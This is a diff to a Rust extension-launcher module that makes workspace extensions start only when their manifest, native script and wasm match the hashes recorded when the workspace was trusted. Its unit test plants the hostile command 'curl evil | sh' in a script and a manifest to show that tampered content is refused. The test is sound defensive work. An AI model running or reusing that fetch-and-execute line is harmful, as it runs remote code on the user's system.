@@ -3,6 +3,9 @@
 //! or `zotbox run` (standalone, or an instance of the shared host) does.
 //!
 //! In order: a wasm file that is not built yet is named with what to run;
+//! a workspace's own extension must be the content its workspace's trust
+//! hashed (its manifest as parsed, its native program and script as they
+//! are now, its wasm as the runtime reads it: [`Admitted::wasm_sha256`]);
 //! the installed files must be the locked ones and meet the trusted
 //! workspace's pins ([`crate::store::lock::check_at_load`]); the policy may
 //! refuse the extension, and otherwise gives its grant as a sandbox
@@ -15,10 +18,11 @@ use std::path::Path;
 use std::sync::Arc;
 
 use crate::home::ZotHome;
-use crate::manifest::Manifest;
+use crate::manifest::{Manifest, Program};
 use crate::policy::{EffectiveLimits, LimitDefaults, Policy};
 use crate::runtime::wasm::GuestLimits;
 use crate::sandbox::{Sandbox, Services};
+use crate::store::trust::Assessment;
 
 /// Why an extension may not start.
 #[derive(Debug, thiserror::Error)]
@@ -26,6 +30,9 @@ pub(crate) enum LaunchError {
     /// Its wasm file is not built: what to run.
     #[error("{0}")]
     NotBuilt(String),
+    /// It is a workspace's own, and not the content trust hashed.
+    #[error(transparent)]
+    Untrusted(#[from] crate::store::trust::PinError),
     /// Its installed files are not the locked ones, or not the pinned ones.
     #[error(transparent)]
     Locked(#[from] crate::store::lock::LockError),
@@ -43,11 +50,15 @@ pub(crate) struct Admitted {
     pub(crate) limits: EffectiveLimits,
     /// The part of `limits` a wasm guest's store enforces.
     pub(crate) guest: GuestLimits,
+    /// The SHA-256 its wasm file must hold when the runtime reads it: the
+    /// content its workspace's trust hashed (none: not a workspace's file).
+    pub(crate) wasm_sha256: Option<[u8; 32]>,
 }
 
 /// Checks that `manifest` may start (see the module) and derives its
 /// sandbox, on `services`, and its limits over `defaults`. `workspace` is
-/// the one whose lock may pin it.
+/// the one whose lock may pin it; `trust`, the assessment of the workspace
+/// whose own extension it is, if it is one.
 ///
 /// # Errors
 ///
@@ -58,11 +69,16 @@ pub(crate) fn admit(
     policy: &Policy,
     services: &Arc<Services>,
     workspace: Option<&Path>,
+    trust: Option<&Assessment>,
     defaults: &LimitDefaults,
 ) -> Result<Admitted, LaunchError> {
     if let Some(problem) = manifest.missing_wasm() {
         return Err(LaunchError::NotBuilt(problem));
     }
+    let wasm_sha256 = match trust {
+        Some(trust) => trusted_content(manifest, trust)?,
+        None => None,
+    };
     crate::store::lock::check_at_load(manifest, home, policy, workspace)?;
     let sandbox =
         crate::sandbox::confine(policy, services, manifest).map_err(LaunchError::Refused)?;
@@ -72,5 +88,107 @@ pub(crate) fn admit(
         sandbox,
         limits,
         guest,
+        wasm_sha256,
     })
+}
+
+/// Checks a workspace extension against what `trust` hashed: its manifest
+/// as parsed, and its native program and script as they are now (the
+/// kernel and the interpreter read them after this; no closer check is to
+/// be had). Returns the digest its wasm must have when it is read.
+fn trusted_content(
+    manifest: &Manifest,
+    trust: &Assessment,
+) -> Result<Option<[u8; 32]>, crate::store::trust::PinError> {
+    trust.check(&manifest.path, &manifest.sha256)?;
+    match &manifest.program {
+        Program::Wasm { path } => trust.expect(path),
+        Program::Native { .. } => {
+            for path in crate::store::trust::named_paths(manifest) {
+                // An argument that names no file is data, not a script.
+                if path.is_file() {
+                    trust.check_file(&path)?;
+                }
+            }
+            Ok(None)
+        }
+        Program::Data => Ok(None),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::store::trust::PinError;
+
+    fn write(path: &Path, bytes: &[u8]) {
+        if let Some(dir) = path.parent() {
+            std::fs::create_dir_all(dir).unwrap_or_else(|e| panic!("{e}"));
+        }
+        std::fs::write(path, bytes).unwrap_or_else(|e| panic!("{e}"));
+    }
+
+    fn load(path: &Path) -> Manifest {
+        Manifest::load(path).unwrap_or_else(|e| panic!("{e}"))
+    }
+
+    #[test]
+    fn a_workspace_extension_starts_only_as_its_workspaces_trust_hashed_it() {
+        let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let root = std::fs::canonicalize(tmp.path()).unwrap_or_else(|e| panic!("{e}"));
+        let ws = root.join("ws");
+        let (wasm, native) = (ws.join(".zot/extensions/w"), ws.join(".zot/extensions/n"));
+        write(
+            &wasm.join("extension.json"),
+            br#"{"name":"w","wasm":"w.wasm"}"#,
+        );
+        write(&wasm.join("w.wasm"), b"\0asm\x01\0\0\0");
+        write(
+            &native.join("extension.json"),
+            br#"{"name":"n","exec":"sh","args":["./run.sh"]}"#,
+        );
+        write(&native.join("run.sh"), b"echo hello\n");
+        let home = ZotHome::new(root.join("home"));
+        crate::store::trust::trust_workspace(&home, &ws).unwrap_or_else(|e| panic!("{e}"));
+        let (wasm_manifest, native_manifest) = (
+            load(&wasm.join("extension.json")),
+            load(&native.join("extension.json")),
+        );
+        let trust = crate::store::trust::assess(&Policy::permissive(), &home, &ws);
+        let hashed: [u8; 32] = <sha2::Sha256 as sha2::Digest>::digest(b"\0asm\x01\0\0\0").into();
+        // As hashed: both may start; the wasm must be read as those bytes.
+        assert_eq!(
+            trusted_content(&wasm_manifest, &trust).ok().flatten(),
+            Some(hashed)
+        );
+        assert!(matches!(
+            trusted_content(&native_manifest, &trust),
+            Ok(None)
+        ));
+        // Rebuilt since: the start still asks the runtime for the hashed
+        // bytes (which refuses these as it reads them).
+        write(&wasm.join("w.wasm"), b"\0asm\x01\0\0\0\0\x02\x01x");
+        assert_eq!(
+            trusted_content(&wasm_manifest, &trust).ok().flatten(),
+            Some(hashed)
+        );
+        // The script edited since: refused before it runs.
+        write(&native.join("run.sh"), b"curl evil | sh\n");
+        let refused = trusted_content(&native_manifest, &trust);
+        assert!(
+            matches!(&refused, Err(PinError::Changed { path, .. }) if *path == native.join("run.sh")),
+            "{refused:?}"
+        );
+        // A manifest parsed from text other than the hashed one.
+        write(
+            &native.join("extension.json"),
+            br#"{"name":"n","exec":"sh","args":["-c","curl evil | sh"]}"#,
+        );
+        let edited = load(&native.join("extension.json"));
+        let refused = trusted_content(&edited, &trust);
+        assert!(
+            matches!(&refused, Err(PinError::Changed { path, .. }) if *path == native.join("extension.json")),
+            "{refused:?}"
+        );
+    }
 }
